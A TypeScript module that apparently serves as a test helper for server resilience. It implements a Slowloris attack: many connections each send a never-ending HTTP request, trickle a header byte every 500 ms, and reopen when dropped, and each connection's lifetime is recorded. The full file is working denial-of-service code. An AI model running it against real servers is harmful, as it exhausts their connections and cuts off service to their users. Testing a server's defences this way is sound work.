import { connect, type Socket } from 'node:net';

/** How long each connection that never finishes its request lived, in ms. */
export type Lives = readonly number[];

/** A byte of a header as often, so that no connection is idle. */
const BYTE_EVERY_MS = 500;

/** Holds so many connections, each of which sends a request that never ends; opens another where one is cut off. */
export class SlowLoris {
  private readonly lives: number[] = [];
  private readonly open = new Map<Socket, number>();
  private readonly beat: NodeJS.Timeout;
  private over = false;

  constructor(
    private readonly url: URL,
    count: number,
  ) {
    for (let number = 0; number < count; number += 1) this.join();
    this.beat = setInterval(() => {
      for (const socket of this.open.keys()) socket.write('x');
    }, BYTE_EVERY_MS);
  }

  /** Ends them and tells how long each had lived, those that were still open too. */
  stop(): Lives {
    this.over = true;
    clearInterval(this.beat);
    for (const [socket, born] of this.open) {
      this.lives.push(performance.now() - born);
      socket.destroy();
    }
    this.open.clear();
    return this.lives;
  }

  private join(): void {
    const socket = connect(Number(this.url.port), this.url.hostname, () => {
      socket.write('POST /v1 HTTP/1.1\r\nhost: propalpes\r\nx-slow: ');
    });
    this.open.set(socket, performance.now());
    // what it is answered is of no interest, but must be read for the end to be seen
    socket.resume();
    socket.on('error', () => socket.destroy());
    socket.on('close', () => {
      this.leave(socket);
    });
  }

  private leave(socket: Socket): void {
    const born = this.open.get(socket);
    if (born === undefined) return;
    this.open.delete(socket);
    this.lives.push(performance.now() - born);
    if (!this.over) this.join();
  }
}
